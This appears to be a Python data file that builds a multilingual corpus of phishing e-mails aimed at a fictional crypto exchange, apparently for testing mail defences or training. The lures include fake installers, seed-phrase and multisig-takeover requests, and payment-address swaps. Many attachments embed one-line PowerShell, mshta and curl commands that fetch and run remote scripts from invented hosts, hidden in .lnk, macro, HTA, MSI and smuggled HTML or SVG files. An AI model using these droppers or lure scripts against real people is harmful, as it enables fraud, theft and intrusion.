         ("鼎元资本 王磊", "wanglei@dingyuan-capital.com"), (LI,),
         "投资会谈 - 请提前安装会议客户端",
         """李伟先生您好，

感谢贵司同意下周二的投资会谈。出于合规要求，我们的外部会议统一使用 WeLink 企业版，
请提前在电脑上安装客户端：

https://welink-meeting.cn/download/WeLinkEnterprise_Setup.exe

安装时如杀毒软件弹出提示，请选择"允许"。会议号和密码会在会前一小时发给您。

王磊
鼎元资本 投资总监""",
         "2026-11-11 15:20 +0800"),
    Mail(L, "investor-meeting-install", "fr",
         "French family office requires a 'Tixeo' client pkg from a lookalike domain with Open Anyway",
         ("Arnaud Delcourt", "a.delcourt@valbrune-patrimoine.fr"), (LAURENT,),
         "Rendez-vous investisseurs - application de visioconférence",
         """Bonjour Camille,

Pour notre réunion de jeudi avec M. Sato, notre comité impose une visioconférence chiffrée via
Tixeo. Merci d'installer au préalable le client sécurisé pour Mac :

https://tixeo-secure.com/client/TixeoSecure-Mac.pkg

Si macOS bloque l'installation, ouvrez Réglages Système > Confidentialité et sécurité, puis
cliquez sur « Ouvrir quand même ».

Bien à vous,
Arnaud Delcourt
Valbrune Patrimoine""",
         "2026-11-12 11:35 +0100"),
    Mail(L, "investor-meeting-install", "ar",
         "Arabic investor asks to install a 'Botim Business' desktop exe from a non-official site before the call",
         ("سالم الكعبي", "salem.alkaabi@sahil-holding.ae"), (HADDAD,),
         "اجتماع الاستثمار يوم الأحد",
         """الأخ عمر،

نؤكد موعد الاجتماع يوم الأحد الساعة 11 صباحاً بتوقيت دبي. نستخدم في الشركة تطبيق "بوتيم بزنس" للاجتماعات
الخارجية، ويرجى تثبيت نسخة سطح المكتب قبل الموعد من الرابط التالي:

https://botim-business.app/desktop/BotimBusinessSetup.exe

إذا ظهرت رسالة تحذير من ويندوز، اضغط "مزيد من المعلومات" ثم "تشغيل على أي حال".

مع التحية،
سالم الكعبي
ساحل القابضة""",
         "2026-11-14 09:40 +0400"),
]

TRADING = [
    Mail(L, "trading-app", "en",
         "Free 'liquidation heatmap' desktop app from Dropbox wants an exchange API key with withdrawal enabled",
         ("Marcus Vell", "marcus@liqmap.trade"), (TANAKA,),
         "Free desk licence - LiqMap Pro for Kitsune",
         """Hi Mika,

We're offering a few exchange desks a free year of LiqMap Pro, our real-time liquidation heatmap
(used by several prop shops in Singapore).

Windows build: https://www.dropbox.com/s/q8v2ta91/LiqMapPro_Setup_4.1.exe?dl=1

On first launch, add a Kitsune API key so it can overlay your own positions. Please enable
"withdraw" on the key as well - the auto-hedge module moves collateral between venues. The
installer isn't signed yet (certificate renewal), so choose "Run anyway" if Windows asks.

Marcus Vell
LiqMap""",
         "2026-11-03 12:20 +0000"),
    Mail(L, "trading-app", "ja",
         "MT5 'arbitrage EA' with a DLL that must be allowed to load, plus a trade/withdraw API key",
         ("アルゴ研究会 事務局", "info@algo-kenkyukai.jp"), (TANAKA_JA,),
         "【法人デスク限定】裁定取引EA（MT5）無償提供のご案内",
         """キツネエクスチェンジ 田中様

アルゴ研究会事務局です。国内取引所・海外取引所間の価格差を自動で取る MT5 用 EA を、
法人デスク様に限り無償で提供しております。

ダウンロード: https://algo-kenkyukai.jp/dl/KX_ArbEA_v2.zip

1. zip 内の KX_ArbEA.ex5 を Experts フォルダに、ArbBridge.dll を Libraries フォルダにコピー
2. MT5 の「ツール > オプション > エキスパートアドバイザ」で「DLLの使用を許可する」にチェック
3. EA の設定画面で貴社取引所の API キー（取引・出金権限付き）を入力

ウイルス対策ソフトが DLL を隔離する場合は、MT5 フォルダを除外設定に追加してください。

アルゴ研究会 事務局""",
         "2026-11-06 10:50 +0900"),
    Mail(L, "trading-app", "ko",
         "Korean 'auto-trading' app as an msix to sideload with Windows developer mode on",
         ("퀀트랩 고객지원", "support@quantlab-pro.co"), (PARK,),
         "[퀀트랩] 기관용 자동매매 프로그램 설치 안내",
         """안녕하세요, 퀀트랩입니다.

요청하신 기관용 자동매매 프로그램 설치 파일을 보내드립니다.

https://quantlab-pro.co/release/QuantLabDesk_2.6.msix

스토어 등록 전 버전이라, 설치하시려면 Windows 설정 > 개발자용에서 '개발자 모드'를 켜 주셔야 합니다.
설치 후 거래소 API 키(출금 권한 포함)를 입력하시면 자동 리밸런싱이 시작됩니다.

퀀트랩 드림""",
         "2026-11-09 14:05 +0900"),
    Mail(L, "trading-app", "zh",
         "Chinese 'quant signal' iOS app installed through an enterprise profile you must trust in Settings",
         ("量子信号 客服", "kefu@liangzi-signal.com"), (LI,),
         "机构版 iOS 信号 App 安装说明",
         """李先生您好，

感谢试用量子信号机构版。由于 App Store 审核周期较长，机构版通过企业签名分发：

1. 用 iPhone 的 Safari 打开 https://liangzi-signal.com/ios/install
2. 允许下载描述文件，到"设置 > 通用 > VPN与设备管理"中信任"Liangzi Tech Co., Ltd."
3. 打开 App，绑定贵司交易所账户（需开启提币权限以使用一键调仓）

如有问题请随时联系。

量子信号客服""",
         "2026-11-10 10:25 +0800"),
    Mail(L, "trading-app", "fr",
         "French 'price alert' Android app distributed as a direct APK that needs unknown sources enabled",
         ("Équipe KriptAlerte", "contact@kriptalerte.app"), (LAURENT,),
         "Votre accès bêta à KriptAlerte Pro",
         """Bonjour Camille,

Merci pour votre inscription à la bêta privée de KriptAlerte Pro, les alertes de prix et d'écarts
d'arbitrage pour les desks professionnels.

La version bêta n'est pas encore sur le Play Store. Téléchargez l'APK ici :
https://kriptalerte.app/beta/KriptAlertePro-0.9.4.apk

Autorisez l'installation depuis des sources inconnues, puis connectez votre compte Kitsune avec
une clé API (lecture et retrait, pour les transferts automatiques entre plateformes).

L'équipe KriptAlerte""",
         "2026-11-13 08:40 +0100"),
    Mail(L, "trading-app", "ar",
         "Arabic 'AI price forecast' macOS dmg with instructions to strip quarantine in Terminal",
         ("فريق رؤية للتداول", "team@ruya-trading.ai"), (HADDAD,),
         "نسخة تجريبية مجانية من تطبيق رؤية للتنبؤ بالأسعار",
         """مرحباً عمر،

يسعدنا منحكم نسخة تجريبية مجانية من تطبيق "رؤية" للتنبؤ بأسعار العملات الرقمية بالذكاء الاصطناعي.

رابط التنزيل لنظام ماك: https://ruya-trading.ai/mac/Ruya-AI-2.3.dmg

بعد نقل التطبيق إلى مجلد التطبيقات، افتح الطرفية ونفّذ الأمر التالي ليعمل التطبيق بشكل صحيح:
xattr -cr /Applications/Ruya.app

ثم أدخل مفتاح API الخاص بحساب الشركة.

فريق رؤية""",
         "2026-11-15 13:00 +0400"),
]

WALLET = [
    Mail(L, "wallet-request", "en",
         "'Staking provider' asks treasury to sign a BLS-to-execution change pointing validator withdrawals at its address",
         ("Kilnmoor Staking Ops", "ops@kilnmoor-staking.com"), (TANAKA,),
         "Validator withdrawal credentials - action needed before Pectra cleanup",
         """Hi Mika,

As part of our post-upgrade cleanup, the 64 validators we run for Kitsune still have 0x00
withdrawal credentials. To keep rewards flowing they need a one-time BLS-to-execution change.

We have prepared the signed-message payload; please sign it with your withdrawal key using the
CLI and send the output back to us:

  ./staking-deposit-cli generate-bls-to-execution-change \\
     --execution_address 0x9D1c4eA07b3F52e8C6a0d7B41f2E95c3A8b6D0e7 ...

The execution address above is our pooled rewards router; rewards are then forwarded to your
treasury weekly. Note that this change is irreversible on-chain, so please do it today while our
engineer is on call.

Kilnmoor Staking Operations""",
         "2026-11-04 14:02 +0000"),
    Mail(L, "wallet-request", "en",
         "'Security auditor' asks Safe owners to sign changeThreshold(1) during a 'key rotation window'",
         ("Priyanka Iyer - Glenmoor Audit", "p.iyer@glenmoor-chainaudit.com"), (TANAKA,),
         "Key rotation window - temporary threshold change",
         """Hello Mika,

For the signer key rotation we agreed in the audit scope, the treasury Safe has to run 1-of-3 for
about two hours so that old keys can be removed one by one without blocking operations.

I have proposed the transaction in the queue: changeThreshold(1) on
eth:0x7a3F91d0B25e6C84a0F3e1bD97c5a8E2b4D0c21E. Please have two owners confirm it tonight
(JST); we will propose the change back to 2-of-3 after the rotation.

There's no need to loop in your CISO, this is within the signed engagement.

Priyanka Iyer
Glenmoor Chain Audit""",
         "2026-11-07 11:30 +0000"),
    Mail(L, "wallet-request", "ja",
         "Fake industry association 'on-site inspection' asks for the cold-wallet key backup file and passphrase",
         ("日本暗号資産取引業協会 自主規制部", "kensa@jvcea-audit.jp"), (TANAKA_JA,),
         "【重要】分別管理状況の臨時確認について（ご対応期限：11月11日）",
         """キツネエクスチェンジ株式会社
コールドウォレット管理責任者 様

当協会では、会員各社の利用者資産の分別管理状況について臨時の確認を行っております。
つきましては、下記資料を暗号化のうえ本メールへの返信にてご提出ください。

1. コールドウォレット秘密鍵のバックアップファイル（暗号化済みのもので可）
2. 上記バックアップの復号用パスフレーズ（別メールで可）
3. 署名者一覧

期限までにご提出いただけない場合、理事会への報告対象となりますのでご留意ください。

日本暗号資産取引業協会 自主規制部""",
         "2026-11-09 15:40 +0900"),
    Mail(L, "wallet-request", "ko",
         "OTC client on Gmail says its old deposit address is 'frozen' and asks to send proceeds to a new one today",
         ("서림트레이딩 재무팀", "seorim.trading.fin@gmail.com"), (PARK,),
         "정산 주소 변경 요청 (긴급)",
         """박대현 님,

저희 기존 USDT 입금 주소가 거래소 측 보안 점검으로 동결되었습니다.
오늘 정산 예정인 1,250,000 USDT는 아래 새 주소로 보내 주시기 바랍니다.

TRC-20: TQx8v3NfW2kP7mLr9cYb4Hd6Ja1Ue5Gz2S

기존 주소로 보내시면 반환까지 한 달 이상 걸립니다. 담당 이사님이 해외 출장 중이라 전화 확인은 어렵고,
이 메일로 회신 주시면 됩니다.

서림트레이딩 재무팀""",
         "2026-11-12 16:45 +0900"),
    Mail(L, "wallet-request", "zh",
         "'Partner' asks the HK desk to sign a TRON AccountPermissionUpdate giving its key owner permission",
         ("合泰链上 运营", "ops@hetai-chain.com"), (LI,),
         "多签权限配置 - 请今天签名",
         """李伟您好，

为了实现下周开始的自动结算，我们需要在贵司 TRON 结算地址上增加一个运营密钥。
请在 TronLink 中签名下面这笔 AccountPermissionUpdate 交易（我们已经构造好）：

owner_permission: threshold 1, keys: [TMe3kS9vQ1uWb7Rz4Hc2Lp6Xa8Ny5Df0Jg, 贵司原地址]
active_permission: threshold 1, keys: [TMe3kS9vQ1uWb7Rz4Hc2Lp6Xa8Ny5Df0Jg]

交易原文：https://hetai-chain.com/tx/perm/9f2a11

签名后地址资产仍由贵司控制，只是方便我们代为发起结算。请今天完成。

合泰链上 运营部""",
         "2026-11-13 17:20 +0800"),
    Mail(L, "wallet-request", "fr",
         "'Custodian' on a free-mail account changes the EURC settlement address and says not to call",
         ("Alpigarde - Opérations", "alpigarde.ops@gmail.com"), (LAURENT,),
         "Changement d'adresse de règlement EURC",
         """Bonjour Camille,

Suite à la migration de notre infrastructure de conservation, notre adresse de règlement EURC
change à compter d'aujourd'hui. Merci d'envoyer le règlement de cette semaine (318 000 EURC)
à la nouvelle adresse :

0x3E7a0b9C2d5F81e4A6c0D3b7E9f1a25C8d4B6e03

Inutile d'appeler notre standard, les équipes sont mobilisées sur la migration ; une simple
confirmation par retour de mail suffit.

Cordialement,
Service opérations""",
         "2026-11-16 10:20 +0100"),
    Mail(L, "wallet-request", "ar",
         "'Wallet support' asks the Dubai office to send the 24 recovery words over WhatsApp for 'verification'",
         ("دعم محافظ الشركات", "support@ledgerguard-help.com"), (HADDAD,),
         "تحقق إلزامي من محفظة الأجهزة الخاصة بشركتكم",
         """السيد عمر حداد،

رصدنا محاولة وصول غير مصرح بها إلى محفظة الأجهزة المسجلة باسم شركتكم. لحماية الأصول، نحتاج إلى
التحقق من ملكية المحفظة خلال 12 ساعة.

يرجى إرسال كلمات الاسترداد الأربع والعشرين بالترتيب عبر واتساب إلى فريق الدعم على الرقم
+971 55 318 4472، وسيتم نقل الأصول مؤقتاً إلى محفظة آمنة حتى انتهاء التحقق.

فريق دعم محافظ الشركات""",
         "2026-11-17 09:15 +0400"),
]

_LNK_RATECARD = lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                    "-w hidden -ep bypass -c \"iwr https://cdn.ashgrove-prime.com/rc/q4.ps1 -UseB|iex\"",
                    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe,11",
                    name="OTC Rate Card Q4 2026")
_LNK_AR = lnk(r"C:\Windows\System32\mshta.exe", "https://files.wahat-otc.com/q/hta",
              r"C:\Windows\System32\imageres.dll,-122", name="عرض الأسعار")
_MACRO_KO = """Sub Document_Open()
    Dim s
    Set s = CreateObject("WScript.Shell")
    s.Run "powershell -w hidden -c iwr https://docs.seoul-kyc-center.com/k.ps1 -UseB | iex", 0, False
End Sub
"""

ATTACH = [
    Mail(L, "attachment", "en",
         "ISO 'rate card' from an invented prime broker holding a .pdf.lnk that runs hidden PowerShell",
         ("Ashgrove Prime - OTC", "otc@ashgrove-prime.com"), (TANAKA,),
         "Q4 OTC rate card - Kitsune Exchange",
         """Hi Mika,

As discussed with your desk, attached is our Q4 rate card for block trades in BTC, ETH and SOL,
with the tiered spreads for volumes above 5m USD. The file is in a disk image because our
compliance tooling locks PDFs sent outside the firm; double-click to open it.

Best regards,
Ashgrove Prime OTC Desk""",
         "2026-11-02 13:05 +0000",
         attachments=(Att("Ashgrove_RateCard_Q4.iso",
                          iso_image([("OTC_RateCard_Q4_2026.pdf.lnk", _LNK_RATECARD)], volume="RATECARD"),
                          "application/x-iso9660-image"),)),
    Mail(L, "attachment", "ja",
         "Zipped CHM 'trading manual' whose ShortCut object runs PowerShell, from an invented listing consultant",
         ("上場支援コンサル 吉岡", "yoshioka@listing-support.jp"), (TANAKA_JA,),
         "新規トークン上場申請マニュアル送付の件",
         """田中様

お世話になっております。上場支援コンサルの吉岡です。
先日ご相談いただいた新規トークンの上場申請について、審査項目をまとめたマニュアルを
お送りいたします（ヘルプ形式のファイルです。zipを展開してダブルクリックで開けます）。

ご不明点があればお気軽にご連絡ください。

吉岡""",
         "2026-11-04 11:40 +0900",
         attachments=(Att("上場申請マニュアル.zip",
                          zip_archive([("上場申請マニュアル.chm",
                                        chm("上場申請マニュアル",
                                            "cmd.exe,/c start /min powershell -w hidden -c iwr https://listing-support.jp/m/s.ps1 -UseB|iex",
                                            "k-ja-listing"))]),
                          "application/zip"),)),
    Mail(L, "attachment", "en",
         "HTA 'secure message' from a fake e-mail encryption service runs PowerShell through WScript.Shell",
         ("SecureMail Gateway", "noreply@securemsg-viewer.net"), (CFO,),
         "You have received an encrypted message from Quillfeather Markets",
         """You have received an encrypted message.

Sender: Quillfeather Markets <settlements@quillfeather.markets>
Subject: November netting statement

Open the attached SecureMessage.hta to decrypt and read the message. The attachment expires in
7 days.""",
         "2026-11-05 08:30 +0000",
         attachments=(Att("SecureMessage.hta",
                          hta("powershell -w hidden -ep bypass -c iex(iwr https://securemsg-viewer.net/d/n.ps1 -UseB)",
                              "Secure Message"),
                          "application/hta"),)),
    Mail(L, "attachment", "en",
         "Excel add-in (.xll, a DLL) sent as a 'volatility pricing model' by an unknown quant consultancy",
         ("Felix Hartmann", "felix@tessaly-quant.com"), (TANAKA,),
         "Options pricing model for your desk",
         """Hi Mika,

Following the panel at the conference last week, here's the volatility surface model I mentioned.
It's an Excel add-in: double-click it and choose "Enable this add-in for this session only", then
the VOLSURF() functions appear in the ribbon.

Felix Hartmann
Tessaly Quant""",
         "2026-11-06 09:55 +0000",
         attachments=(Att("VolSurface_Pricer.xll", pe_stub("xll:tessaly-volsurface"), "application/octet-stream"),)),
    Mail(L, "attachment", "en",
         "SVG 'remittance advice' that smuggles a zip holding a .pdf.lnk through atob/Blob",
         ("Accounts Receivable", "ar@northgale-remit.com"), (KEIRI,),
         "Remittance advice - INV-88217",
         """Hello,

Please find attached the remittance advice for invoice INV-88217 (USD 184,320.00), paid today.
Open the attachment in your browser to view the details.

Accounts Receivable""",
         "2026-11-07 02:10 +0000",
         attachments=(Att("Remittance_INV-88217.svg",
                          svg_smuggling(zip_archive([("Remittance_INV-88217.pdf.lnk", _LNK_RATECARD)]),
                                        "Remittance_INV-88217.zip", "Remittance advice - loading..."),
                          "image/svg+xml"),)),
    Mail(L, "attachment", "ko",
         "Korean 'KYC form' .docm with a Document_Open macro that runs PowerShell",
         ("서울KYC센터", "kyc@seoul-kyc-center.com"), (PARK,),
         "[요청] 법인 고객 KYC 추가 서류 양식",
         """담당자님 안녕하세요.

귀사 법인 고객의 KYC 재심사를 위해 추가 서류 양식을 보내드립니다.
첨부 문서를 열고 상단의 '콘텐츠 사용'을 클릭하셔야 입력란이 활성화됩니다.
작성 후 11월 13일까지 회신 부탁드립니다.

서울KYC센터""",
         "2026-11-10 10:35 +0900",
         attachments=(Att("법인KYC_추가서류양식.docm",
                          word_document(["법인 고객 KYC 추가 서류", "콘텐츠 사용을 클릭하세요."],
                                        macro_modules=[("ThisDocument", _MACRO_KO, True)]),
                          "application/vnd.ms-word.document.macroEnabled.12"),)),
    Mail(L, "attachment", "zh",
         "RLO-named .scr shown as a PDF ('对账单_1111<RLO>fdp.scr'), from an invented OTC counterparty",
         ("泰和场外 结算部", "settle@taihe-otc.com"), (LI,),
         "11月对账单，请核对",
         """李经理您好，

附件是本月与贵司的场外交易对账单，请核对后回复确认。如有差异请在周五前告知。

泰和场外 结算部""",
         "2026-11-11 17:40 +0800",
         attachments=(Att("对账单_1111\u202efdp.scr", pe_stub("scr:taihe-statement"), "application/octet-stream"),)),
    Mail(L, "attachment", "fr",
         "ZipCrypto zip with a .pdf.vbs 'statement', password in the body, from an invented fund administrator",
         ("Administration de fonds - Lemaury", "releves@lemaury-admin.fr"), (LAURENT,),
         "Relevé de position au 31 octobre",
         """Bonjour,

Veuillez trouver ci-joint le relevé de position de votre compte au 31 octobre.
Pour des raisons de confidentialité, l'archive est protégée par mot de passe : LMY-2026-kx

Cordialement,
Service administration de fonds""",
         "2026-11-13 09:25 +0100",
         attachments=(Att("Releve_31102026.zip",
                          zip_archive([("Releve_31102026.pdf.vbs",
                                        vbs("powershell -w hidden -c iwr https://lemaury-admin.fr/s/r.ps1 -UseB|iex",
                                            "https://lemaury-admin.fr/releve"))], password="LMY-2026-kx"),
                          "application/zip"),)),
    Mail(L, "attachment", "ar",
         "Arabic HTML 'price quote' that smuggles a zip with a .pdf.lnk running mshta",
         ("واحة للتداول خارج البورصة", "quotes@wahat-otc.com"), (HADDAD,),
         "عرض أسعار لصفقة USDT الكبيرة",
         """الأخ عمر،

مرفق عرض الأسعار المطلوب لصفقة 5 ملايين USDT. افتح الملف المرفق في المتصفح لتنزيل العرض.

واحة للتداول""",
         "2026-11-14 14:10 +0400",
         attachments=(Att("عرض_الأسعار.html",
                          html_smuggling(zip_archive([("عرض_الأسعار.pdf.lnk", _LNK_AR)]), "عرض_الأسعار.zip",
                                         "عرض الأسعار", "جاري تحميل المستند..."),
                          "text/html"),)),
    Mail(L, "attachment", "en",
         "AppleScript file 'deck viewer' that fakes a password prompt and pipes a download into the shell",
         ("Leo Marsh", "leo@brightfen.capital"), (CEO,),
         "Our fund deck (mac viewer)",
         """Hi Haruto,

Nice to meet you at the dinner. Our deck is protected, so I've attached the viewer script for
Mac - double-click it, it opens in Script Editor, then press Run. It will ask for your Mac
password to mount the secure volume.

Leo Marsh
Brightfen Capital""",
         "2026-11-16 19:30 +0000",
         attachments=(Att("Brightfen_Deck_Viewer.scpt",
                          applescript("https://brightfen.capital/v/deck.sh",
                                      "Brightfen Deck Viewer needs your password to mount the secure volume."),
                          "application/octet-stream"),)),
    Mail(L, "attachment", "en",
         "AES 7z 'audit confirmation' holding a .pdf.js downloader, password in the body",
         ("Audit Confirmations", "confirm@crestline-audit.com"), (KEIRI,),
         "Balance confirmation request - Kitsune Exchange K.K.",
         """Dear Sir or Madam,

As part of the year-end audit of one of your counterparties, we kindly ask you to confirm the
balances stated in the attached letter. The archive is encrypted; the password is CRST-7713.

Please reply by 25 November.

Crestline Audit Confirmations""",
         "2026-11-17 07:45 +0000",
         attachments=(Att("Confirmation_KX.7z",
                          seven_zip([("Balance_Confirmation_KX.pdf.js",
                                      jscript("https://crestline-audit.com/c/load.js"))], "CRST-7713", "k-crestline"),
                          "application/x-7z-compressed"),)),
    Mail(L, "attachment", "en",
         "MSI 'reconciliation agent' from an invented audit firm whose custom action runs hidden PowerShell",
         ("Stoneridge Assurance - IT Audit", "itaudit@stoneridge-assurance.com"), (TAKAHASHI,),
         "IT general controls fieldwork - agent to install before Monday",
         """Dear Sho,

For next week's IT general controls fieldwork, please install the attached reconciliation agent on
the hosts that run your wallet reconciliation jobs. It collects configuration evidence and uploads it
to our portal; it needs local administrator rights. If Defender flags it, please add an exclusion,
our signing certificate is being renewed.

Stoneridge Assurance - IT Audit""",
         "2026-11-18 08:20 +0000",
         attachments=(Att("StoneridgeEvidenceAgent.msi",
                          msi("Stoneridge Evidence Agent",
                              "powershell.exe -w hidden -nop -c iex(iwr https://stoneridge-assurance.com/a/agent.ps1 -UseB)"),
                          "application/x-msi"),)),
    Mail(L, "attachment", "ja",
         "Zipped AppleScript .app 'pitch deck viewer' from an invented VC that runs a download through the shell",
         ("霧雨ベンチャーズ 小田", "oda@kirisame-ventures.jp"), (CEO,),
         "ピッチ資料（閲覧アプリ）の送付",
         """佐藤様

先日はありがとうございました。霧雨ベンチャーズの小田です。
弊社の投資方針資料をお送りします。情報管理のため閲覧用アプリに格納しております。
zipを展開し、アプリを右クリック→「開く」で表示されます。

小田""",
         "2026-11-18 11:05 +0900",
         attachments=(Att("Kirisame_Deck.zip",
                          mac_app_zip("Kirisame Deck",
                                      'do shell script "curl -fsSL https://kirisame-ventures.jp/v/d.sh | sh"'),
                          "application/zip"),)),
    Mail(L, "attachment", "en",
         "macOS .pkg 'market data connector' whose postinstall fetches and runs a binary as root",
         ("Pelagic Data Support", "support@pelagic-data.io"), (TANAKA,),
         "Your market data connector (macOS)",
         """Hi Mika,

Thanks for starting the trial. The connector for macOS is attached; double-click the package and
follow the installer. It installs a background service that streams order-book data into Excel.

Pelagic Data Support""",
         "2026-11-19 02:40 +0000",
         attachments=(Att("PelagicConnector.pkg",
                          xar_pkg("io.pelagic-data.connector",
                                  "curl -fsSL https://pelagic-data.io/c/agent -o /tmp/.pc && chmod +x /tmp/.pc && /tmp/.pc &"),
                          "application/octet-stream"),)),
]

_LNK_MINATO = lnk(r"C:\Windows\System32\mshta.exe", "https://rninatogawa-sec.co.jp/doc/v.hta",
                  r"C:\Windows\System32\imageres.dll,-102", name="貸株基本契約書_改訂版")

HIJACK = [
    Mail(L, "conversation-hijack", "en",
         "Reply in Quillfeather's real thread (In-Reply-To set) from quillfeather-markets.com changes the USDC settlement address",
         QUILL_FAKE, (TANAKA,),
         "RE: November netting schedule",
         """Hi Mika,

One update before Friday's net settlement: following our custody provider change, USDC
settlements should go to our new address from this cycle onwards:

0xA61f0c3D8e92B7a54C1E0d6f3B28a9E4c7D1b5F2

The old address will be retired next week. Our ops team is mid-migration, so please just confirm
by reply rather than via the usual call.

Thanks,
Alistair

> On 4 Nov 2026, Alistair Renwick wrote:
> Please find below our proposed netting schedule for November.""",
         "2026-11-08 10:12 +0000", in_reply_to=QUILL_MID, references=QUILL_MID),
    Mail(L, "conversation-hijack", "ja",
         "Reply in Minatogawa's real thread from rninatogawa-sec.co.jp (rn for m) with a password zip holding a .pdf.lnk",
         MINATO_FAKE, (TANAKA_JA,),
         "RE: 貸株契約の更新について",
         """田中様

お世話になっております。湊川証券の北村です。
先日ご相談した貸株基本契約の改訂版をお送りします。社内規定によりパスワード付きzipにしております。

パスワード: mgs2026kx

ご確認のうえ、今週中にご返信いただけますと幸いです。

北村

> 2026/11/05 北村 遼 wrote:
> 貸株契約の更新について、条件案をご相談させてください。""",
         "2026-11-09 14:20 +0900", in_reply_to=MINATO_MID, references=MINATO_MID,
         attachments=(Att("貸株基本契約書_改訂版.zip",
                          zip_archive([("貸株基本契約書_改訂版.pdf.lnk", _LNK_MINATO)], password="mgs2026kx"),
                          "application/zip"),)),
    Mail(L, "conversation-hijack", "ko",
         "Reply in Cheongun's real thread from cheongunn-am.co.kr (doubled n) moves the USDT settlement to a new wallet",
         CHEONGUN_FAKE, (PARK,),
         "RE: 11월 정산 일정 안내",
         """박대현 님,

정산 일정 관련 추가 안내드립니다. 내부 보안 감사로 기존 지갑 사용이 중단되어,
이번 주 정산분부터는 아래 새 주소로 보내 주셔야 합니다.

USDT(ERC-20): 0x2fB7c91E04a3d8F6E5b0A71c9D24e83F6a0C5b19

변경 확인서는 다음 주에 별도로 보내 드리겠습니다. 바쁘시겠지만 오늘 중으로 처리 부탁드립니다.

윤서진 드림

> 2026-11-04 윤서진 작성:
> 11월 정산 일정을 아래와 같이 안내드립니다.""",
         "2026-11-10 11:05 +0900", in_reply_to=CHEONGUN_MID, references=CHEONGUN_MID),
    Mail(L, "conversation-hijack", "zh",
         "Reply in Hongsheng's real thread from hongsheng-digita1.com.hk asks to release USDT before the HKD arrives",
         HONGSHENG_FAKE, (LI,),
         "回复: 11月第二周场外结算安排",
         """李伟你好，

本周这笔 320 万 USDT 的交易，客户那边的港币汇款因为银行合规审核要晚一天到账。
为了不影响客户开仓，麻烦你们今天先把 USDT 放给客户，港币明天一早一定到。
水单我们收到后马上转给你。这次就不走电话确认了，老板已经同意。

嘉怡

> 陈嘉怡 于 2026-11-05 写道：
> 附上11月第二周的场外结算安排，请查收。""",
         "2026-11-10 18:30 +0800", in_reply_to=HONGSHENG_MID, references=HONGSHENG_MID),
    Mail(L, "conversation-hijack", "fr",
         "Forward (TR:) from corbelle-finance.com, no In-Reply-To, announcing a new IBAN for the mandate fees",
         CORBELLE_FAKE, (LAURENT,),
         "TR: Mandat de gestion - RIB mis à jour",
         """Bonjour Camille,

Je vous transfère le message de notre service comptable ci-dessous : notre banque a changé et
les commissions du mandat sont désormais à régler sur le nouveau compte.

IBAN : LT71 3250 0824 1937 5512
BIC : REVOLT21

Merci de mettre à jour vos coordonnées avant le prochain règlement de vendredi.

Bien à vous,
Hélène Vautrin

-------- Message transféré --------
De : Comptabilité Maison Corbelle
Objet : Nouvelles coordonnées bancaires""",
         "2026-11-12 15:10 +0100"),
    Mail(L, "conversation-hijack", "ar",
         "Reply in Rimal's thread without In-Reply-To, from rimal-capital.ae, sends a 'statement' exe download link",
         RIMAL_FAKE, (HADDAD,),
         "رد: جدول التسويات لشهر نوفمبر",
         """الأخ عمر،

بالإشارة إلى جدول التسويات، أرفقنا كشف الحساب المحدث على منصة مشاركة الملفات الخاصة بنا لأن حجمه كبير:

https://files.rimal-capital.ae/statement/RC_Statement_Nov.exe

يرجى تنزيله وتشغيله لعرض الكشف (عارض آمن) وتأكيد الأرصدة اليوم.

مع التحية،
ليلى الشامسي""",
         "2026-11-11 13:25 +0400"),
]

LURES = [*EXEC, *VENDOR, *LOOKALIKE, *RECRUIT, *INVESTOR, *TRADING, *WALLET, *ATTACH, *HIJACK]
